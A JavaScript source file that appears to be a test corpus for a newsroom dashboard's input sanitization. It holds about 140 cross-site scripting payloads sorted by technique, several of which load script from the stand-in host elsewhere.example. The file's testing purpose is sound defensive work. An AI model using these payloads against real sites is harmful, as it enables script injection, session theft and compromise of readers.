// What strangers write where a newsroom reads. Each sets `window.broken`, opens a dialog or asks `elsewhere.example` for something if it
// ever becomes part of a page. By class; written for this dashboard, at most 190 characters each, so that all fit into an outlet's name.

const CALL = "window.broken=1";

/** Elements that run something, or load it. */
const elements = [
  `<script>${CALL}</script>`,
  `<SCRIPT>${CALL}</SCRIPT>`,
  `<script >${CALL}</script >`,
  `<script\t>${CALL}</script>`,
  `<script/x>${CALL}</script>`,
  `<script type=module>${CALL}</script>`,
  `<script src=https://elsewhere.example/a.js></script>`,
  `<script src=//elsewhere.example/a.js>`,
  `<script src=data:text/javascript,${CALL}></script>`,
  `<script>alert(1)`,
  `<iframe srcdoc="<script>parent.broken=1</script>"></iframe>`,
  `<iframe src="javascript:parent.broken=1"></iframe>`,
  `<object data="javascript:${CALL}"></object>`,
  `<object data=https://elsewhere.example/a.swf></object>`,
  `<embed src="javascript:${CALL}">`,
  `<link rel=stylesheet href=https://elsewhere.example/a.css>`,
  `<link rel=preload as=image href=https://elsewhere.example/a.png>`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<meta http-equiv=refresh content="0;url=https://elsewhere.example/">`,
  `<base href=https://elsewhere.example/>`,
  `<form action="javascript:${CALL}"><button>Go</button></form>`,
  `<button form=x formaction="javascript:${CALL}">Go</button>`,
  `<portal src=https://elsewhere.example/></portal>`,
  `<frameset onload=${CALL}>`,
];

/** Attributes that listen. */
const handlers = [
  `<img src=x onerror=${CALL}>`,
  `<img src=x onerror="${CALL}">`,
  `<img src=x onerror='${CALL}'>`,
  `<img src=x onerror=\`${CALL}\`>`,
  `<img/src=x/onerror=${CALL}>`,
  `<img\nsrc=x\nonerror=${CALL}>`,
  `<IMG SRC=x ONERROR=${CALL}>`,
  `<img src=x oNeRrOr=${CALL}//`,
  `<img src="x" onerror=alert(document.domain)>`,
  `<img src=https://elsewhere.example/pixel.png>`,
  `<img srcset="https://elsewhere.example/a.png 1x">`,
  `<picture><source srcset=https://elsewhere.example/a.webp><img></picture>`,
  `<body onload=${CALL}>`,
  `<body onpageshow=${CALL}>`,
  `<b onmouseover=${CALL}>over</b>`,
  `<b onpointerenter=${CALL} style=position:fixed;inset:0>everywhere</b>`,
  `<input autofocus onfocus=${CALL}>`,
  `<select autofocus onfocus=${CALL}>`,
  `<textarea autofocus onfocus=${CALL}>`,
  `<a tabindex=1 autofocus onfocus=${CALL}>here</a>`,
  `<details open ontoggle=${CALL}>`,
  `<dialog open onclose=${CALL}><form method=dialog>`,
  `<video src=x onerror=${CALL}>`,
  `<video><source onerror=${CALL}></video>`,
  `<audio src=https://elsewhere.example/a.ogg autoplay onerror=${CALL}>`,
  `<video poster=https://elsewhere.example/a.png>`,
  `<track onerror=${CALL} src=x>`,
  `<marquee onstart=${CALL}>here</marquee>`,
  `<style onload=${CALL}></style>`,
  `<b onanimationstart=${CALL} style=animation:spin>here</b>`,
  `<x-y onclick=${CALL}>here</x-y>`,
  `<b popover=manual id=p onbeforetoggle=${CALL}></b><button popovertarget=p>`,
];

/** Out of where a value is thought to stand. */
const escapes = [
  `"><img src=x onerror=${CALL}>`,
  `'><img src=x onerror=${CALL}>`,
  `" onmouseover="${CALL}`,
  `' autofocus onfocus='${CALL}`,
  `\`-${CALL}-\``,
  `--><img src=x onerror=${CALL}>`,
  `]]><img src=x onerror=${CALL}>`,
  `</title><img src=x onerror=${CALL}>`,
  `</textarea><img src=x onerror=${CALL}>`,
  `</style><img src=x onerror=${CALL}>`,
  `</script><script>${CALL}</script>`,
  `</noscript><img src=x onerror=${CALL}>`,
  `</template><img src=x onerror=${CALL}>`,
  `';${CALL}//`,
  `";${CALL}//`,
  `\\";${CALL}//`,
  `</p></main></body></html><img src=x onerror=${CALL}>`,
  `?><img src=x onerror=${CALL}>`,
];

/** Addresses that do something. */
const schemes = [
  `javascript:${CALL}//`,
  `JaVaScRiPt:${CALL}//`,
  ` javascript:${CALL}`,
  `java\tscript:${CALL}`,
  `javascript://elsewhere.example/%0a${CALL}`,
  `javascript:void(${CALL})//https://herald.example/`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>parent.broken=1</script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQuYnJva2VuPTE8L3NjcmlwdD4=`,
  `<a href="javascript:${CALL}">here</a>`,
  `<a href="java&#9;script:${CALL}">here</a>`,
  `<a href="&#106;avascript:${CALL}">here</a>`,
  `<a href=https://elsewhere.example/ ping=https://elsewhere.example/ping>here</a>`,
  `[here](javascript:${CALL})`,
  `![x](https://elsewhere.example/pixel.png)`,
  `//elsewhere.example/%2e%2e`,
];

/** Other languages in the page: drawings and formulas. */
const foreign = [
  `<svg onload=${CALL}>`,
  `<svg/onload=${CALL}//`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><script href=data:text/javascript,${CALL} /></svg>`,
  `<svg><a xlink:href="javascript:${CALL}"><text y=20>here</text></a></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><a><set attributeName=href to="javascript:${CALL}" /><text y=9>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x"/></svg>`,
  `<svg><image href=https://elsewhere.example/a.svg /></svg>`,
  `<svg><foreignObject><img src=x onerror=${CALL}></foreignObject></svg>`,
  `<svg><style>@import 'https://elsewhere.example/a.css'</style></svg>`,
  `<math><maction actiontype=statusline xlink:href="javascript:${CALL}">here</maction></math>`,
  `<math href="javascript:${CALL}">here</math>`,
];

/** What changes its meaning when it is parsed a second time. */
const mutations = [
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<svg></p><style><a id="</style><img src=x onerror=${CALL}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}></style>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${CALL}>`,
  `<template><s><template><s><img src=x onerror=${CALL}></s></template></s></template>`,
  `<table><td><textarea><img title="</textarea><img src=x onerror=${CALL}>">`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${CALL}>">`,
  `<!--><img src=x onerror=${CALL}>-->`,
  `<![CDATA[<img src=x onerror=${CALL}>]]>`,
  `<p id="<img src=x onerror=${CALL}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${CALL}>">`,
  `<<script>${CALL}//<</script>`,
  `<img """><script>${CALL}</script>">`,
];

/** Spelled otherwise. */
const encodings = [
  `&lt;img src=x onerror=${CALL}&gt;`,
  `&#60;img src=x onerror=${CALL}&#62;`,
  `&#x3c;script&#x3e;${CALL}&#x3c;/script&#x3e;`,
  `%3Cimg%20src%3Dx%20onerror%3D${CALL}%3E`,
  `%253Cscript%253E${CALL}%253C/script%253E`,
  `\\u003cimg src=x onerror=${CALL}\\u003e`,
  `\\x3cscript\\x3e${CALL}\\x3c/script\\x3e`,
  `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
  `＜img src=x onerror=${CALL}＞`,
  `‹script›${CALL}‹/script›`,
  `<scr\u200bipt>${CALL}</scr\u200bipt>`,
  `<img src=x o\u00adnerror=${CALL}>`,
  `\u{1d4d7}<img src=x onerror=${CALL}>`,
];

/** What templates and libraries take for theirs. */
const templates = [
  `{{constructor.constructor('${CALL}')()}}`,
  `\${${CALL}}`,
  `<%= ${CALL} %>`,
  `#{${CALL}}`,
  `{%raw%}{{${CALL}}}`,
  `<b v-html="'<img src=x onerror=${CALL}>'">`,
  `<b ng-app ng-csp>{{$eval.constructor('${CALL}')()}}</b>`,
  `<b x-data x-init="${CALL}"></b>`,
  `<b data-bind="value: ${CALL}"></b>`,
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${CALL}>"},"type":"b"}`,
  `__proto__[innerHTML]=<img src=x onerror=${CALL}>`,
  `<b id=location name=cookie></b><a id=app href=javascript:${CALL}>`,
];

/** Styles that ask for something, and words that turn around. */
const styles = [
  `<style>*{background:url(https://elsewhere.example/a.png)}</style>`,
  `<style>@import url(https://elsewhere.example/a.css);</style>`,
  `<b style="background:url(https://elsewhere.example/a.png)">here</b>`,
  `<b style="width:expression(${CALL})">here</b>`,
  `<style>@font-face{font-family:x;src:url(https://elsewhere.example/a.woff)}*{font-family:x}</style>`,
  `;background:url(//elsewhere.example/a.png)`,
  `\u202e<img src=x onerror=${CALL}>`,
  `\u2066<script>${CALL}</script>\u2069`,
  `=HYPERLINK("https://elsewhere.example/","here")`,
  `\u0627\u0644\u062c\u0633\u0631 <svg onload=${CALL}>`,
];

export const PAYLOADS = [
  ...elements,
  ...handlers,
  ...escapes,
  ...schemes,
  ...foreign,
  ...mutations,
  ...encodings,
  ...templates,
  ...styles,
];
